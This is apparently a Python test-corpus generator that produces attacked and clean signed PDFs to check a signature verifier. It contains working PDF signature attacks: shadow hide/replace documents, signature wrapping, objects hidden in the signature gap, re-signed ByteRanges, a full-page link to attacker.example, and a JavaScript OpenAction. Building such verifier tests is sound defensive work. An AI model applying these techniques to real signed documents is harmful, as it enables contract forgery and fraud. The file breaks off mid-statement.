#!/usr/bin/env python3
"""Generate attacked (and clean control) signed PDFs for `qz verify`.

usage: make_attacks.py OUTDIR [--pki DIR] [--no-judge] [--only CLASS[,CLASS...]]

--pki DIR   a tests/interop/make_pki.py PKI (made in OUTDIR/pki if absent). The second,
            RSA/LTV PKI (tests/verify/ltv_pki.py) is kept in DIR/ltv and made on first use.
QZ_BIN      the signer for the qz-signed base files (default target/release/qz).

Writes OUTDIR/<name>.pdf, OUTDIR/trust/*.pem and OUTDIR/manifest.json:
  {"files": [{name, file, class, description, expected: [verdicts], base, trust: [paths
              relative to OUTDIR], signatures?: [per-signature expectations, clean files],
              pyhanko: {verdict, signatures, read_error}, pyhanko_agrees}],
   "skipped": [{name, reason}], "errors": [{name, error, traceback}],
   "classes": {class: count}}
expected is a list of acceptable verdicts: ["BROKEN", "MODIFIED"] for attacks, one verdict
for clean controls. `pyhanko` is pyHanko 0.38's own judgement (see pyhanko_ref.py); where
it is not in `expected` pyHanko is fooled or disagrees (README.md lists these).

Base files: reportlab documents from tests/interop/make_corpus.py and a hand-written
"shadow" document that carries objects prepared for shadow attacks; signed by `qz sign`
(interop PKI: ECDSA P-256, RSA-2048) and by pyHanko (LTV PKI: RSA-2048, P-384/SHA-384,
RSA-3072 PSS; interop PKI ECDSA for the certified ones).
"""
from __future__ import annotations

import argparse
import hashlib
import importlib.util
import io
import json
import random
import re
import shutil
import sys
import time
import traceback
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parent / "interop"))

import make_corpus  # noqa: E402
import make_pki  # noqa: E402
import pdfbytes as pb  # noqa: E402
import pyhanko_ref  # noqa: E402
import signing  # noqa: E402
from ltv_pki import ensure_ltv_pki  # noqa: E402

REJECT = ["BROKEN", "MODIFIED"]
VERDICTS = ("VALID", "ALLOWED_CHANGE", "MODIFIED", "BROKEN", "NO_SIGNATURE")
EXIT_CODES = {"VALID": 0, "ALLOWED_CHANGE": 0, "MODIFIED": 1, "BROKEN": 2, "NO_SIGNATURE": 3}

# pyHanko -> qz verify vocabulary (the mapping)
COVERAGE = {"ENTIRE_FILE": "entire_file", "ENTIRE_REVISION": "entire_revision",
            "CONTIGUOUS_BLOCK_FROM_START": "partial", "UNCLEAR": "partial"}
MODIFICATION = {None: "none", "NONE": "none", "LTA_UPDATES": "lta_updates", "FORM_FILLING": "form_filling",
                "ANNOTATIONS": "annotations", "OTHER": "other"}

RED_BLOCK = b"q 1 0 0 rg 40 300 515 140 re f 1 1 1 rg 60 320 475 100 re f 1 0 0 rg 80 340 435 60 re f Q\n"


class Skip(Exception):
    pass


# --------------------------------------------------------------------------- pyHanko object access

def reader(data: bytes):
    from pyhanko.pdf_utils.reader import PdfFileReader
    return PdfFileReader(io.BytesIO(data), strict=False)


def dcopy(d):
    """Shallow copy of a pyHanko dictionary keeping indirect references unresolved."""
    from pyhanko.pdf_utils import generic
    return generic.DictionaryObject({k: d.raw_get(k) for k in d})


def page_refs(r) -> list:
    out = []

    def walk(ref):
        node = ref.get_object()
        if node.get("/Type") == "/Pages" or "/Kids" in node:
            kids = node.raw_get("/Kids")
            kids = kids.get_object() if hasattr(kids, "get_object") else kids
            for i in range(len(kids)):
                walk(kids.raw_get(i))
        else:
            out.append(ref)

    walk(r.root.raw_get("/Pages"))
    return out


def content_refs(r, page_ix=0) -> list[int]:
    page = page_refs(r)[page_ix].get_object()
    c = page.raw_get("/Contents")
    if hasattr(c, "idnum"):
        obj = c.get_object()
        if hasattr(obj, "raw_get") and not hasattr(obj, "data"):  # indirect array
            return [obj.raw_get(i).idnum for i in range(len(obj))]
        return [c.idnum]
    return [c.raw_get(i).idnum for i in range(len(c))]


def find_field(r, name: str):
    fields = r.root["/AcroForm"].raw_get("/Fields")
    fields = fields.get_object() if hasattr(fields, "get_object") else fields
    for i in range(len(fields)):
        ref = fields.raw_get(i)
        if str(ref.get_object().get("/T")) == name:
            return ref
    raise KeyError(name)


def add_annot(u: pb.Update, r, page_ix: int, annot_num: int) -> None:
    """Page /Annots += annot (the array may be direct or indirect)."""
    from pyhanko.pdf_utils import generic
    pref = page_refs(r)[page_ix]
    page = dcopy(pref.get_object())
    raw = page.get("/Annots") and page.raw_get("/Annots")
    ann = generic.IndirectObject(annot_num, 0, r)
    if raw is not None and hasattr(raw, "idnum"):
        arr = generic.ArrayObject([raw.get_object().raw_get(i) for i in range(len(raw.get_object()))] + [ann])
        u.add(raw.idnum, pb.ser(arr))
        return
    arr = generic.ArrayObject(([raw.raw_get(i) for i in range(len(raw))] if raw is not None else []) + [ann])
    page[generic.NameObject("/Annots")] = arr
    u.add(pref.idnum, pb.ser(page))


# --------------------------------------------------------------------------- the shadow document

SHADOW = {
    "catalog": 1, "pages": 2, "page": 3, "content": 4, "hidden": 5, "cover": 6, "font": 7, "info": 8,
    "ocg": 9, "occonfig": 10, "acroform": 11, "field": 12, "field_ap": 13,
    "catalog2": 14, "pages2": 15, "page2": 16, "content2": 17,
}


def shadow_doc() -> tuple[bytes, dict]:
    """A one-page contract with objects prepared for shadow attacks (Mainka et al. 2021):
    - content 4 (visible text), 5 (text "Late fee ..." hidden under 6), 6 (white box in the
      optional content group 9, ON in the default configuration 10);
    - a text field 'amount' (12, appearance 13) showing "100 EUR";
    - an unused catalog 14 -> pages 15 -> page 16 -> content 17 (a different contract);
    - shadow copies not listed in the xref: "4 0 obj" with other text, "6 0 obj" empty.
    A reader sees only the honest page. Signing it and verifying it must give VALID."""
    S = SHADOW
    content = (b"BT /F1 22 Tf 72 770 Td (Service contract No. 2026-117) Tj ET\n"
               b"BT /F1 14 Tf 72 730 Td (Amount due:) Tj ET\n"
               b"BT /F1 12 Tf 72 600 Td (The amount is payable within 30 days.) Tj ET\n"
               b"BT /F1 12 Tf 72 560 Td (Signed by the parties below.) Tj ET\n"
               b"0.5 w 40 40 515 762 re S\n")
    hidden = b"BT /F1 14 Tf 72 690 Td (Late fee: 1000000 EUR per day of delay.) Tj ET\n"
    cover = b"/OC /OC1 BDC 1 1 1 rg 66 682 480 26 re f EMC\n"
    content_shadow = (b"BT /F1 22 Tf 72 770 Td (Service contract No. 2026-117) Tj ET\n"
                      b"BT /F1 14 Tf 72 730 Td (Amount due: 1,000,000 EUR, not) Tj ET\n"
                      b"BT /F1 12 Tf 72 600 Td (The amount is payable immediately.) Tj ET\n"
                      b"BT /F1 12 Tf 72 560 Td (Signed by the parties below.) Tj ET\n"
                      b"0.5 w 40 40 515 762 re S\n")
    content2 = (b"BT /F1 22 Tf 72 770 Td (Service contract No. 2026-117) Tj ET\n"
                b"BT /F1 14 Tf 72 730 Td (This contract is void. Pay 1,000,000 EUR to Mallory.) Tj ET\n"
                b"0.5 w 40 40 515 762 re S\n")
    ap = b"/Tx BMC BT /Helv 14 Tf 2 6 Td (100 EUR) Tj ET EMC"
    res = b"/Resources << /Font << /F1 7 0 R >> /Properties << /OC1 9 0 R >> >>"
    objs = {
        S["catalog"]: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 11 0 R /OCProperties << /OCGs [9 0 R] /D 10 0 R >> >>",
        S["pages"]: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        S["page"]: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 5 0 R 6 0 R] "
                   + res + b" /Annots [12 0 R] >>",
        S["content"]: pb.stream_obj(content),
        S["hidden"]: pb.stream_obj(hidden),
        S["cover"]: pb.stream_obj(cover),
        S["font"]: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        S["info"]: b"<< /Title (Shadow attack base) /Producer (tests/verify/make_attacks.py) >>",
        S["ocg"]: b"<< /Type /OCG /Name (Cover) >>",
        S["occonfig"]: b"<< /Name (Default) /Order [9 0 R] /ON [9 0 R] /OFF [] >>",
        S["acroform"]: b"<< /Fields [12 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 7 0 R >> >> >>",
        S["field"]: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100 EUR) /DA (/Helv 14 Tf 0 g) "
                    b"/Rect [180 722 330 746] /P 3 0 R /F 4 /AP << /N 13 0 R >> >>",
        S["field_ap"]: pb.stream_obj(ap, b"/Type /XObject /Subtype /Form /BBox [0 0 150 24] "
                                         b"/Resources << /Font << /Helv 7 0 R >> >> "),
        S["catalog2"]: b"<< /Type /Catalog /Pages 15 0 R /AcroForm 11 0 R >>",
        S["pages2"]: b"<< /Type /Pages /Kids [16 0 R] /Count 1 >>",
        S["page2"]: b"<< /Type /Page /Parent 15 0 R /MediaBox [0 0 595 842] /Contents 17 0 R " + res + b" >>",
        S["content2"]: pb.stream_obj(content2),
    }
    shadows = [(S["content"], pb.stream_obj(content_shadow)), (S["cover"], pb.stream_obj(b""))]
    return pb.build_pdf(objs, root=S["catalog"], info=S["info"], shadows=shadows)


# --------------------------------------------------------------------------- context

@dataclass
class Base:
    name: str
    data: bytes
    trust: list[str]          # pki names
    producer: str             # "qz" or "pyhanko"
    signer: str               # signing.py signer name of the (last) signature
    shadow_offsets: dict | None = None


class Ctx:
    def __init__(self, outdir: Path, pkis: signing.Pkis, qz: Path | None, judge: bool, log):
        self.outdir, self.pkis, self.qz, self.judge, self.log = outdir, pkis, qz, judge, log
        self.work = outdir / "work"
        self.work.mkdir(parents=True, exist_ok=True)
        self.entries: list[dict] = []
        self.skipped: list[dict] = []
        self.errors: list[dict] = []
        self.bases: dict[str, Base] = {}
        self.docs: dict[str, Path] = {}
        self.trustfiles: dict[str, str] = {}
        (outdir / "trust").mkdir(exist_ok=True)
        for pki in ("interop", "ltv", "self"):
            dst = outdir / "trust" / f"{pki}-root.pem"
            shutil.copyfile(pkis.root(pki), dst)
            self.trustfiles[pki] = str(dst.relative_to(outdir))

    def need_qz(self) -> Path:
        if self.qz is None or not self.qz.is_file():
            raise Skip("qz binary not found (QZ_BIN / target/release/qz)")
        return self.qz

    def base(self, name: str) -> Base:
        if name not in self.bases:
            raise Skip(f"base {name} was not built")
        return self.bases[name]

    def emit(self, name: str, cls: str, description: str, data: bytes, expected, base: str | None,
             trust: list[str], *, clean_detail: bool = False, **extra) -> dict:
        expected = [expected] if isinstance(expected, str) else list(expected)
        assert all(v in VERDICTS for v in expected), expected
        assert name not in {e["name"] for e in self.entries}, name
        path = self.outdir / f"{name}.pdf"
        path.write_bytes(data)
        e = {"name": name, "file": path.name, "class": cls, "description": description,
             "expected": expected, "base": base, "trust": [self.trustfiles[t] for t in trust],
             "signature_intact": intact_expectation(name, cls)}
        e.update(extra)
        if self.judge or clean_detail:
            roots = [self.pkis.root(t) for t in trust]
            crls = _ltv_crls(self.pkis)
            j = pyhanko_ref.judge(path, roots, crls=crls)
            e["pyhanko"] = j
            e["pyhanko_agrees"] = pyhanko_ref.agrees(j["verdict"], expected)
            if clean_detail:
                e["revisions"] = j["revisions"]
                e["signatures"] = [expect_from_pyhanko(s) for s in j["signatures"]]
        self.entries.append(e)
        return e


def intact_expectation(name: str, cls: str) -> bool | None:
    """Whether the attacked signature's CMS should still verify over its ByteRange (pyHanko's
    'intact'): True marks attacks that leave the cryptography alone and must be caught by
    structure or modification analysis. None: no usable CMS / not meaningful."""
    if cls in ("isa", "docmdp", "shadow-hide", "shadow-replace", "shadow-hide-replace", "untrusted"):
        return True
    if cls in ("cms-swap", "digest"):
        return False
    if cls == "swa":
        return "-ph-" in name
    if cls == "contents-gap":
        return None if "-raw-" in name else True
    if cls == "usf":
        if "-resigned-" in name or "-filter-" in name or "-subfilter-" in name:
            return True
        if name.startswith("usf-byterange-") and "-inplace-" in name:
            return False
    return None


_CRLS = None


def _ltv_crls(pkis):
    global _CRLS
    if _CRLS is None:
        from asn1crypto import crl as asn1_crl
        _CRLS = [asn1_crl.CertificateList.load((pkis.ltv / f).read_bytes())
                 for f in ("root.crl.der", "ca.crl.der")]
    return _CRLS


def expect_from_pyhanko(s: dict) -> dict:
    """Per-signature expectations for a clean control, in qz verify's vocabulary."""
    return {"field": s["field"], "kind": s["kind"], "signer_cn": s.get("signer_cn"),
            "revision": s["signed_revision"], "intact": s["intact"], "valid": s["valid"],
            "trusted": s["trusted"], "coverage": COVERAGE.get(s["coverage"], s["coverage"]),
            "modification": MODIFICATION.get(s["modification_level"], s["modification_level"]),
            "status": pyhanko_ref.sig_status(s)}


# --------------------------------------------------------------------------- bases

def build_docs(ctx: Ctx) -> None:
    """Unsigned (and pyHanko-certified) inputs, from tests/interop/make_corpus.py + the shadow doc."""
    cdir = ctx.work / "corpus"
    m = make_corpus.make_corpus(cdir, pki=ctx.pkis.interop, bench=False,
                                only={"form-fields", "certified-*", "qpdf-*"}, log=lambda s: None)
    for e in m["files"]:
        ctx.docs[e["name"]] = cdir / e["file"]
    for e in m["errors"]:
        ctx.errors.append({"name": f"corpus:{e['name']}", "error": e["error"], "traceback": e.get("traceback")})
    data, offsets = shadow_doc()
    p = ctx.work / "shadow.pdf"
    p.write_bytes(data)
    ctx.docs["shadow"] = p
    ctx.shadow_offsets = offsets
    # seal image: reuse the interop suite's generator
    spec = importlib.util.spec_from_file_location("interop_conftest", HERE.parent / "interop" / "conftest.py")
    mod = sys.modules.get(spec.name)
    if mod is None:
        mod = importlib.util.module_from_spec(spec)
        sys.modules[spec.name] = mod
        spec.loader.exec_module(mod)
    ctx.images = mod.make_images(ctx.work)


def doc(ctx: Ctx, name: str) -> Path:
    if name not in ctx.docs:
        raise Skip(f"input {name} missing (corpus generator skipped or failed)")
    return ctx.docs[name]


def build_bases(ctx: Ctx) -> None:
    w = ctx.work
    pk = ctx.pkis

    def qz(name, src, signer, *extra, producer="qz"):
        out = w / f"{name}.pdf"
        signing.qz_sign(ctx.need_qz(), pk, src, out, signer, *extra)
        ctx.bases[name] = Base(name, out.read_bytes(), [signer.split(":")[0]], producer, signer)

    def ph(name, src, signer, field, trust=None, **kw):
        out = w / f"{name}.pdf"
        signing.ph_sign(pk, src, out, signer, field, **kw)
        ctx.bases[name] = Base(name, out.read_bytes(), trust or [signer.split(":")[0]], "pyhanko", signer)

    seal = ctx.images["seal"]
    steps = [
        ("qz-ec", lambda: qz("qz-ec", doc(ctx, "rl-mixed-sizes"), "interop:ecdsa", "--seal", seal, "--page", 1,
                             "--rect", "380,80,120,120")),
        ("qz-rsa", lambda: qz("qz-rsa", doc(ctx, "rl-a4-chinese"), "interop:rsa2048")),
        ("qz-ec-a4", lambda: qz("qz-ec-a4", doc(ctx, "rl-a4-chinese"), "interop:ecdsa")),
        ("ph-rsa", lambda: ph("ph-rsa", doc(ctx, "rl-mixed-sizes"), "ltv:alice", "Alice")),
        ("ph-p384", lambda: ph("ph-p384", doc(ctx, "rl-a4-chinese"), "ltv:bob", "Bob",
                               visible_box=(350, 60, 550, 120))),
        ("ph-pss", lambda: ph("ph-pss", doc(ctx, "rl-a4-chinese"), "ltv:carol", "Carol")),
        ("shadow-qz", lambda: qz("shadow-qz", doc(ctx, "shadow"), "interop:ecdsa")),
        ("shadow-ph", lambda: ph("shadow-ph", doc(ctx, "shadow"), "ltv:alice", "Alice")),
        ("shadow-ph-locked", lambda: ph("shadow-ph-locked", doc(ctx, "shadow"), "ltv:alice", "Alice",
                                        lock_fields=["amount"])),
        ("form-ph", lambda: ph("form-ph", doc(ctx, "form-fields"), "ltv:alice", "Alice")),
        ("form-ph-certified-p2", lambda: ph("form-ph-certified-p2", doc(ctx, "form-fields"), "ltv:alice",
                                            "Certification", certify=2)),
    ]
    for name, fn in steps:
        try:
            fn()
        except Skip as e:
            ctx.skipped.append({"name": f"base:{name}", "reason": str(e)})
        except Exception as e:  # noqa: BLE001
            ctx.errors.append({"name": f"base:{name}", "error": f"{type(e).__name__}: {e}",
                               "traceback": traceback.format_exc()})
    for name in ("shadow-qz", "shadow-ph", "shadow-ph-locked"):
        if name in ctx.bases:
            ctx.bases[name].shadow_offsets = ctx.shadow_offsets


# --------------------------------------------------------------------------- attack building blocks

def upd_sig_dict(data: bytes, sig: pb.SigInfo, edit) -> bytes:
    """Incremental update redefining the signature dictionary with edit(text) -> text."""
    u = pb.Update(data)
    text = data[sig.obj_offset:sig.obj_end]
    body = text[text.index(b"obj") + 3:text.rindex(b"endobj")].strip()
    u.add(sig.num, edit(body))
    return u.bytes()


def sub_key(body: bytes, key: bytes, value: bytes | None) -> bytes:
    """Replace (value) or drop (None) a /Key and its value in a dictionary text.
    Handles hex strings, arrays, names, literal strings without nesting, numbers, null."""
    pat = re.compile(rb"/" + key + rb"(?![A-Za-z0-9.])\s*(<[0-9A-Fa-f\s]*>|\[[^\]]*\]|/[^\s/<>\[\]()]+|\([^)]*\)"
                     rb"|null|-?\d+(?:\.\d+)?)")
    m = pat.search(body)
    if not m:
        if value is None:
            return body
        i = body.rindex(b">>")
        return body[:i] + b"/" + key + b" " + value + b" " + body[i:]
    rep = b"" if value is None else b"/" + key + b" " + value
    return body[:m.start()] + rep + body[m.end():]


def page_content_update(data: bytes, content: bytes = RED_BLOCK, page_ix: int = 0) -> bytes:
    from pyhanko.pdf_utils import generic
    r = reader(data)
    u = pb.Update(data)
    n = u.new(pb.stream_obj(content))
    pref = page_refs(r)[page_ix]
    page = dcopy(pref.get_object())
    old = [generic.IndirectObject(x, 0, r) for x in content_refs(r, page_ix)]
    page[generic.NameObject("/Contents")] = generic.ArrayObject(old + [generic.IndirectObject(n, 0, r)])
    u.add(pref.idnum, pb.ser(page))
    return u.bytes()


def add_page_update(data: bytes) -> bytes:
    from pyhanko.pdf_utils import generic
    r = reader(data)
    u = pb.Update(data)
    pages_ref = r.root.raw_get("/Pages")
    pages = dcopy(pages_ref.get_object())
    c = u.new(pb.stream_obj(RED_BLOCK))
    p = u.new(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << >> >>"
              % (pages_ref.idnum, c))
    kids = pages.raw_get("/Kids")
    kids = kids.get_object() if hasattr(kids, "idnum") else kids
    pages[generic.NameObject("/Kids")] = generic.ArrayObject(
        [kids.raw_get(i) for i in range(len(kids))] + [generic.IndirectObject(p, 0, r)])
    pages[generic.NameObject("/Count")] = generic.NumberObject(int(pages["/Count"]) + 1)
    u.add(pages_ref.idnum, pb.ser(pages))
    return u.bytes()


def annot_update(data: bytes, subtype: str, page_ix: int = 0) -> bytes:
    r = reader(data)
    u = pb.Update(data)
    pref = page_refs(r)[page_ix]
    if subtype == "FreeText":
        ap = u.new(pb.stream_obj(b"q 1 1 0.6 rg 0 0 300 40 re f 1 0 0 RG 2 w 1 1 298 38 re S "
                                 b"BT /Helv 16 Tf 1 0 0 rg 8 14 Td (PAID IN FULL - nothing due) Tj ET Q",
                                 b"/Type /XObject /Subtype /Form /BBox [0 0 300 40] "
                                 b"/Resources << /Font << /Helv << /Type /Font /Subtype /Type1 "
                                 b"/BaseFont /Helvetica >> >> >> "))
        a = u.new(b"<< /Type /Annot /Subtype /FreeText /Rect [72 420 372 460] /F 4 /P %d 0 R "
                  b"/Contents (PAID IN FULL - nothing due) /DA (/Helv 16 Tf 1 0 0 rg) "
                  b"/AP << /N %d 0 R >> /M (D:20261122120000Z) >>" % (pref.idnum, ap))
    elif subtype == "Link":
        a = u.new(b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /F 4 /P %d 0 R "
                  b"/A << /S /URI /URI (http://attacker.example/pay) >> >>" % pref.idnum)
    else:
        raise ValueError(subtype)
    add_annot(u, r, page_ix, a)
    return u.bytes()


def info_update(data: bytes) -> bytes:
    t = pb.trailer(data)
    u = pb.Update(data)
    body = b"<< /Title (Contract - amended: 1,000,000 EUR) /Author (Mallory) /ModDate (D:20261122120000Z) >>"
    if t.info:
        u.add(t.info[0], body)
    else:
        n = u.new(body)
        u.trailer_set(b"Info", b"%d 0 R" % n)
    return u.bytes()


def catalog_update(data: bytes) -> bytes:
    from pyhanko.pdf_utils import generic
    r = reader(data)
    t = pb.trailer(data)
    cat = dcopy(r.root)
    u = pb.Update(data)
    js = u.new(b"<< /S /JavaScript /JS (app.alert\\('The contract was amended.'\\);) >>")
    cat[generic.NameObject("/OpenAction")] = generic.IndirectObject(js, 0, r)
    u.add(t.root[0], pb.ser(cat))
    return u.bytes()


def form_fill_update(data: bytes, field: str, value: str) -> bytes:
    from pyhanko.pdf_utils import generic
    r = reader(data)
    ref = find_field(r, field)
    f = dcopy(ref.get_object())
    rect = [float(x) for x in f["/Rect"]]
    w, h = rect[2] - rect[0], rect[3] - rect[1]
    u = pb.Update(data)
    ap = u.new(pb.stream_obj(b"/Tx BMC BT /Helv 12 Tf 0 g 2 %g Td %s Tj ET EMC" % (h / 2 - 4, pb.pdf_string(value)),
                             b"/Type /XObject /Subtype /Form /BBox [0 0 %g %g] /Resources << /Font << /Helv "
                             b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> " % (w, h)))
    f[generic.NameObject("/V")] = generic.TextStringObject(value)
    f[generic.NameObject("/AP")] = generic.DictionaryObject(
        {generic.NameObject("/N"): generic.IndirectObject(ap, 0, r)})
    u.add(ref.idnum, pb.ser(f))
    return u.bytes()


def resign(ctx: Ctx, data: bytes, sig: pb.SigInfo, signer: str, new_range, *, gap_start=None) -> bytes:
    """Recompute a *valid* CMS over a custom ByteRange (the attacker holds a key): what is left
    is a structural violation that only a verifier checking the ByteRange's shape catches."""
    d = bytearray(pb.set_byte_range_text(data, sig, new_range))
    b, c = sig.gap
    gs = gap_start if gap_start is not None else b
    # the gap region: '<' + hex + '>'; with a shifted gap the first hex digit(s) get signed
    prefix = b"3082"[:max(gs - b - 1, 0)]  # a CMS of 256..65535 bytes starts with 30 82
    if gs > b:
        d[b + 1:gs] = prefix
    a0, l0, a1, l1 = new_range
    md = hashlib.new(signing.md_for(signer))
    md.update(bytes(d[a0:a0 + l0]))
    md.update(bytes(d[a1:a1 + l1]))
    cms = signing.raw_cms(ctx.pkis, signer, md.digest())
    hx = cms.hex().upper().encode()
    if gs > b:
        assert hx.startswith(prefix), hx[:8]
        hx = hx[gs - b - 1:]
        region = hx + b"0" * (c - gs - 1 - len(hx)) + b">"
        d[gs:c] = region
    else:
        d[b:c] = pb.hex_contents(cms, c - b)
    return bytes(d)


def swa(data: bytes, sig: pb.SigInfo, content_num: int, content: bytes = RED_BLOCK) -> bytes:
    """Signature Wrapping (Mladenov et al. 2019): the signed second part is moved to the end of
    the file, the freed space after the (shortened) /Contents holds a malicious object and a
    new xref table exactly at the offset the signed `startxref` names; ByteRange [0 b c' d]
    then still hashes the original bytes. Works cryptographically when /ByteRange comes after
    /Contents (pyHanko's layout); with qz's layout the rewritten ByteRange is itself signed."""
    a, b, c, dlen = sig.byte_range
    if c + dlen != len(data):
        raise ValueError("SWA needs the signature to cover the end of the file")
    X = pb.last_startxref(data)
    last = pb.parse_xref(data).sections[0]
    part1, part2 = data[:b], data[c:]
    hexs = b"<" + sig.cms.hex().upper().encode() + b">"
    br_after = sig.br_span[0] >= c
    tail = data[c:sig.obj_end] + b"\n"
    region = bytearray(part1 + hexs + tail)
    mal_off = len(region)
    region += b"%d 0 obj\n" % content_num + pb.stream_obj(content) + b"\nendobj\n"
    if len(region) > X:
        raise ValueError(f"no room for SWA: need {len(region)}, xref at {X}")
    region += b" " * (X - len(region) - 1) + b"\n"

    def xref_block(delta: int) -> bytes:
        ent = dict(last.entries)
        ent[content_num] = (mal_off, 0, "n")
        out = bytearray(b"xref\n")
        nums = sorted(ent)
        i = 0
        while i < len(nums):
            j = i
            while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
                j += 1
            out += b"%d %d\n" % (nums[i], j - i + 1)
            for k in nums[i:j + 1]:
                off, gen, kind = ent[k]
                if kind == "n" and off >= c and k != content_num:
                    off += delta
                out += b"%010d %05d %s \n" % (off, gen, kind.encode())
            i = j + 1
        out += b"trailer\n" + last.trailer + b"\n"
        return bytes(out)

    blk_len = len(xref_block(0))
    c_new = X + blk_len
    new = bytearray(region + xref_block(c_new - c) + part2)
    assert len(new) == c_new + dlen
    # rewrite the ByteRange text (same width, padded)
    if br_after:
        pos = b + len(hexs) + (sig.br_span[0] - c)
        fake = pb.SigInfo(sig.num, 0, 0, sig.byte_range, (pos, pos + (sig.br_span[1] - sig.br_span[0])),
                          sig.gap, sig.cms, None)
    else:
        fake = sig
    return pb.set_byte_range_text(bytes(new), fake, [0, b, c_new, dlen])


def gap_object(data: bytes, sig: pb.SigInfo, content_num: int, mode: str) -> bytes:
    """Hide an object in the /Contents gap (unsigned bytes) and, unless mode is 'extra-key',
    point the page's content stream at it with an xref-only update."""
    b, c = sig.gap
    hexs = b"<" + sig.cms.hex().upper().encode()
    obj = b"\n%d 0 obj\n" % content_num + pb.stream_obj(RED_BLOCK) + b"\nendobj\n"
    if mode == "pad":        # syntactically clean: /Contents <cms> /Pad (..object..)
        inner = hexs + b"> /Pad (" + obj + b")"
        off = b + len(hexs) + len(b"> /Pad (") + 1
    elif mode == "raw":      # object bytes written straight into the zero padding
        inner = hexs + b"0" * 64 + obj
        off = b + len(hexs) + 64 + 1
        inner += b"0" * (c - b - len(inner) - 1) + b">"
    elif mode == "extra-key":
        inner = hexs + b"> /Pad (unsigned bytes in the signature gap)"
        off = None
    else:
        raise ValueError(mode)
    d = pb.fill_gap(data, sig, inner)
    assert d[off:off + 10].startswith(b"%d 0 obj" % content_num) if off else True
    if off is None:
        return d
    u = pb.Update(d)
    u.redirect(content_num, off)
    return u.bytes()


# --------------------------------------------------------------------------- generators

def g_clean(ctx: Ctx):
    pk = ctx.pkis
    w = ctx.work
    for name in ("qz-ec", "qz-rsa", "ph-rsa", "ph-p384", "ph-pss", "shadow-qz", "shadow-ph", "shadow-ph-locked"):
        try:
            bs = ctx.base(name)
        except Skip as e:
            ctx.skipped.append({"name": f"clean-{name}", "reason": str(e)})
            continue
        extra = {}
        if name == "qz-ec":
            extra["marks"] = [{"signature": 0, "page": 1, "rect": [380, 80, 120, 120]}]
        ctx.emit(f"clean-{name}", "clean", f"{name}: one signature, nothing after it "
                 + ("(the document carries unused shadow objects, which change nothing)" if "shadow" in name else ""),
                 bs.data, "VALID", name, bs.trust, clean_detail=True, **extra)

    def two(name, desc, make, trust, expected="ALLOWED_CHANGE", signatures=None, **extra):
        try:
            out = make()
        except Skip as e:
            ctx.skipped.append({"name": name, "reason": str(e)})
            return
        e = ctx.emit(name, "clean", desc, Path(out).read_bytes(), expected, None, trust, clean_detail=True, **extra)
        if signatures is not None:
            e["signatures_from_pyhanko"] = e["signatures"]
            e["signatures"] = signatures

    qz = lambda *a: signing.qz_sign(ctx.need_qz(), pk, *a)  # noqa: E731
    two("clean-qz-twice", "qz ECDSA (seal) then qz RSA-2048 with a cross-page seal and a date stamp",
        lambda: qz(w / "qz-ec.pdf", w / "c-qz-twice.pdf", "interop:rsa2048", "--seal", ctx.images["seal"],
                   "--cross-page", "all", "--date-stamp", "page=1,x=380,y=60"), ["interop"])
    two("clean-qz-then-ph", "qz ECDSA, then a pyHanko approval signature (RSA, other PKI)",
        lambda: signing.ph_sign(pk, w / "qz-rsa.pdf", w / "c-qz-ph.pdf", "ltv:alice", "Alice"),
        ["interop", "ltv"])
    two("clean-ph-then-qz", "pyHanko RSA approval, then qz ECDSA with a visible seal",
        lambda: qz(w / "ph-rsa.pdf", w / "c-ph-qz.pdf", "interop:ecdsa", "--seal", ctx.images["seal"],
                   "--page", 2, "--rect", "100,100,100,100"), ["interop", "ltv"])
    two("clean-ph-three", "three pyHanko signers (RSA, P-384 visible, RSA-PSS) one after another",
        lambda: signing.ph_sign(pk, signing.ph_sign(pk, w / "ph-rsa.pdf", w / "c3a.pdf", "ltv:bob", "Bob",
                                                     visible_box=(50, 50, 250, 110)),
                                w / "c3b.pdf", "ltv:carol", "Carol"), ["ltv"])
    two("clean-qz-pkcs7", "qz with --subfilter adbe.pkcs7.detached",
        lambda: qz(doc(ctx, "rl-a4-chinese"), w / "c-p7.pdf", "interop:rsa2048", "--subfilter",
                   "adbe.pkcs7.detached"), ["interop"], expected="VALID")
    two("clean-qz-objstm", "qz on a file with object streams and an xref stream (qpdf)",
        lambda: qz(doc(ctx, "qpdf-objstm"), w / "c-objstm.pdf", "interop:ecdsa"), ["interop"], expected="VALID")
    two("clean-qz-then-dss", "qz ECDSA, then a DSS revision with certificates and CRLs (pyHanko)",
        lambda: signing.ph_add_dss(pk, w / "qz-ec.pdf", w / "c-qz-dss.pdf"), ["interop"])
    two("clean-qz-then-doc-timestamp", "qz ECDSA, then a DSS + document timestamp (pyHanko, B-LTA style)",
        lambda: signing.ph_doc_timestamp(pk, w / "qz-rsa.pdf", w / "c-qz-ts.pdf"), ["interop", "ltv"])
    # certified documents
    two("clean-certified-p2-then-approval", "pyHanko certification P=2, then an invisible pyHanko approval signature",
        lambda: signing.ph_sign(pk, doc(ctx, "certified-p2"), w / "c-p2a.pdf", "ltv:alice", "Alice"),
        ["interop", "ltv"])
    two("clean-certified-p2-then-qz", "pyHanko certification P=2, then an invisible qz signature",
        lambda: qz(doc(ctx, "certified-p2"), w / "c-p2qz.pdf", "interop:rsa2048"), ["interop"])
    # pyHanko 0.38's default diff policy has no rule that explains new annotations, so it calls
    # this OTHER / docmdp_ok=False; the issue allows annotations on P=3: expectations set by hand.
    two("clean-certified-p3-then-annotation", "certification P=3 (annotations allowed), then a FreeText annotation",
        lambda: _w(w / "c-p3an.pdf", annot_update(doc(ctx, "certified-p3").read_bytes(), "FreeText")), ["interop"],
        signatures=[{"field": "Certification", "kind": "certification", "signer_cn": signing.CN["interop:ecdsa"],
                     "revision": 2, "intact": True, "valid": True, "trusted": True, "coverage": "entire_revision",
